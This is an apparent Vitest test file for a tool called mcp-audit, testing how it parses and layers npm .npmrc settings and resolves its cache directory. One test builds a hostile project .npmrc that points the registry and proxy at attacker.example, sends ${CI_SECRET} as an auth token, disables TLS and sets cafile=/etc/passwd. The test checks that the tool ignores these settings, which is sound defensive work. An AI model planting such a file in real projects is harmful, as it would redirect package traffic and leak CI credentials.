import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { loadNpmSettings, parseNpmrc, registryLabel } from "../../src/registry/npmrc.js";
import { resolveCacheDir } from "../../src/registry/plugin.js";

const tmp = () => fs.mkdtempSync(path.join(os.tmpdir(), "mcp-audit-npmrc-"));

describe("parseNpmrc", () => {
  it("reads keys, arrays, quotes and comments, and expands ${VAR} from the environment", () => {
    const raw = parseNpmrc(
      [
        "; comment",
        "# comment",
        "registry = https://r.example.com/npm/",
        '@acme:registry="https://npm.acme.dev/"',
        "//npm.acme.dev/:_authToken=${ACME_TOKEN}",
        "//other.dev/:_authToken=${MISSING}",
        "ca[]=first",
        "ca[]=second",
        "optional=${MISSING?}x",
        "escaped=\\${ACME_TOKEN}",
        "[section]",
      ].join("\r\n"),
      { ACME_TOKEN: "tok" },
    );
    expect(Object.fromEntries(raw)).toEqual({
      registry: "https://r.example.com/npm/",
      "@acme:registry": "https://npm.acme.dev/",
      "//npm.acme.dev/:_authToken": "tok",
      ca: ["first", "second"],
      optional: "x",
      escaped: "${ACME_TOKEN}",
    });
  });
});

describe("loadNpmSettings", () => {
  it("layers global < user < trusted project < environment, and picks the scope's registry", () => {
    const home = tmp();
    const project = path.join(home, "p");
    fs.mkdirSync(project);
    fs.writeFileSync(path.join(project, "package.json"), "{}");
    fs.writeFileSync(path.join(home, "global-npmrc"), "registry=https://global.example/\nfetch-retries=5\nstrict-ssl=false\n");
    fs.writeFileSync(path.join(home, ".npmrc"), "registry=https://user.example\n@acme:registry=https://acme.example\n//acme.example/:_authToken=secret\nfetch-timeout=1234\n");
    fs.writeFileSync(path.join(project, ".npmrc"), "@acme:registry=https://acme-project.example/\nhttps-proxy=http://proxy.local:3128\n");
    const s = loadNpmSettings({ cwd: project, env: { HOME: home, npm_config_globalconfig: path.join(home, "global-npmrc"), npm_config_fetch_retry_mintimeout: "20" }, trustProject: true });
    expect(s.notices).toEqual([]);
    expect(s.registry).toBe("https://user.example/");
    expect(s.registryFor("@acme/x")).toBe("https://acme-project.example/");
    expect(s.registryFor("plain")).toBe("https://user.example/");
    expect(s.options).toMatchObject({ strictSSL: false, httpsProxy: "http://proxy.local:3128", "//acme.example/:_authToken": "secret" });
    expect(s.retry).toEqual({ retries: 5, minTimeout: 20 });
    expect(s.timeout).toBe(1234);
    expect(s.files).toEqual([path.join(home, "global-npmrc"), path.join(home, ".npmrc"), path.join(project, ".npmrc")]);
    const fromEnv = loadNpmSettings({ cwd: project, env: { HOME: home, npm_config_globalconfig: "/nonexistent", npm_config_registry: "https://env.example/", "npm_config_@acme:registry": "https://acme-env.example/" }, trustProject: true });
    expect(fromEnv.registry).toBe("https://env.example/");
    expect(fromEnv.registryFor("@acme/x")).toBe("https://acme-env.example/");
  });

  it("does not let a project .npmrc choose the registry, scopes, credentials, proxy or TLS, and says what it ignored", () => {
    const home = tmp();
    const project = path.join(home, "p");
    fs.mkdirSync(project);
    fs.writeFileSync(path.join(project, "package.json"), "{}");
    fs.writeFileSync(path.join(home, ".npmrc"), "registry=https://user.example/\n//user.example/:_authToken=${USER_TOKEN}\n");
    fs.writeFileSync(
      path.join(project, ".npmrc"),
      "registry=http://attacker.example/\n//attacker.example/:_authToken=${CI_SECRET}\n@acme:registry=http://attacker.example/\nhttps-proxy=http://attacker.example:3128\nstrict-ssl=false\ncafile=/etc/passwd\nfetch-timeout=999999999\nsave-exact=true\n",
    );
    const env = { HOME: home, npm_config_globalconfig: path.join(home, "none"), CI_SECRET: "ci-secret-value-1234", USER_TOKEN: "user-token-5678" };
    const s = loadNpmSettings({ cwd: project, env });
    expect(s.registry).toBe("https://user.example/");
    expect(s.registryFor("@acme/x")).toBe("https://user.example/");
    expect(s.options).toEqual({ registry: "https://user.example/", "//user.example/:_authToken": "user-token-5678" });
    expect(s.timeout).toBeUndefined();
    expect(s.files).toEqual([path.join(home, ".npmrc")]);
    expect(s.notices).toEqual([
      "ignored the registry, scoped registries, credentials, a proxy, TLS settings and network settings set in the project's .npmrc: a scanned repository does not choose where mcp-audit connects or what it sends; your user and global npm config were used (trust the project's .npmrc with --trust-project-npmrc or MCP_AUDIT_TRUST_PROJECT_NPMRC=1)",
    ]);
    expect(JSON.stringify(s)).not.toContain("ci-secret-value-1234");
    // A project .npmrc with nothing about the network (save-exact, engine-strict) is not worth a notice.
    fs.writeFileSync(path.join(project, ".npmrc"), "save-exact=true\nengine-strict=true\n");
    expect(loadNpmSettings({ cwd: project, env }).notices).toEqual([]);
  });

  it("trusted (flag or MCP_AUDIT_TRUST_PROJECT_NPMRC), a project .npmrc is used but never expands variables", () => {
    const home = tmp();
    const project = path.join(home, "p");
    fs.mkdirSync(project);
    fs.writeFileSync(path.join(project, "package.json"), "{}");
    fs.writeFileSync(path.join(project, ".npmrc"), "registry=https://company.example/\n//company.example/:_authToken=${CI_SECRET}\n//other.example/:_authToken=literal-token\n");
    const env = { HOME: home, npm_config_globalconfig: path.join(home, "none"), npm_config_userconfig: path.join(home, "none"), CI_SECRET: "ci-secret-value-1234" };
    for (const s of [loadNpmSettings({ cwd: project, env, trustProject: true }), loadNpmSettings({ cwd: project, env: { ...env, MCP_AUDIT_TRUST_PROJECT_NPMRC: "1" } })]) {
      expect(s.registry).toBe("https://company.example/");
      expect(s.options).toEqual({ registry: "https://company.example/", "//other.example/:_authToken": "literal-token" });
      expect(s.notices).toEqual([
        ".npmrc (trusted) names environment variables, which are never expanded from a project .npmrc: its credentials lines that use them were left out (set them in your user .npmrc or npm_config_* variables)",
      ]);
    }
    // Not trusted by any other value of the variable.
    expect(loadNpmSettings({ cwd: project, env: { ...env, MCP_AUDIT_TRUST_PROJECT_NPMRC: "0" } }).registry).toBe("https://registry.npmjs.org/");
  });

  it("treats the user's own .npmrc as the user's, even when the project is the home folder", () => {
    const home = tmp();
    fs.writeFileSync(path.join(home, "package.json"), "{}");
    fs.writeFileSync(path.join(home, ".npmrc"), "registry=https://user.example/\n//user.example/:_authToken=${T}\n");
    const s = loadNpmSettings({ cwd: home, env: { HOME: home, npm_config_globalconfig: path.join(home, "none"), T: "tok-123456" } });
    expect(s.options).toEqual({ registry: "https://user.example/", "//user.example/:_authToken": "tok-123456" });
    expect(s.notices).toEqual([]);
  });

  it("falls back to the public registry and the usual proxy variables; reads a cafile", () => {
    const home = tmp();
    fs.writeFileSync(path.join(home, "ca.pem"), "-----BEGIN CERTIFICATE-----\nfake\n-----END CERTIFICATE-----\n");
    fs.writeFileSync(path.join(home, ".npmrc"), `cafile=${path.join(home, "ca.pem")}\n`);
    const s = loadNpmSettings({ cwd: home, env: { HOME: home, npm_config_globalconfig: "/nonexistent", HTTPS_PROXY: "http://corp:8080", NO_PROXY: "localhost" } });
    expect(s.registry).toBe("https://registry.npmjs.org/");
    expect(s.options).toMatchObject({ httpsProxy: "http://corp:8080", noProxy: "localhost", ca: expect.stringContaining("BEGIN CERTIFICATE") });
  });

  it("never shows credentials in a registry's label", () => {
    expect(registryLabel("https://user:pass@npm.acme.dev/npm/private/")).toBe("npm.acme.dev/npm/private");
    expect(registryLabel("https://registry.npmjs.org/")).toBe("registry.npmjs.org");
    expect(registryLabel("not a url")).toBe("the configured registry");
  });
});

describe("resolveCacheDir", () => {
  it("prefers --cache-dir, then MCP_AUDIT_CACHE_DIR, then XDG_CACHE_HOME, then ~/.cache", () => {
    expect(resolveCacheDir("c", { MCP_AUDIT_CACHE_DIR: "/e" }, "/cwd")).toBe(path.resolve("/cwd", "c"));
    expect(resolveCacheDir(undefined, { MCP_AUDIT_CACHE_DIR: "rel", XDG_CACHE_HOME: "/x" }, "/cwd")).toBe(path.resolve("/cwd", "rel"));
    expect(resolveCacheDir(undefined, { XDG_CACHE_HOME: "/x" }, "/cwd")).toBe(path.join("/x", "mcp-audit"));
    expect(resolveCacheDir(undefined, { HOME: "/home/me" }, "/cwd")).toBe(path.join("/home/me", ".cache", "mcp-audit"));
  });
});
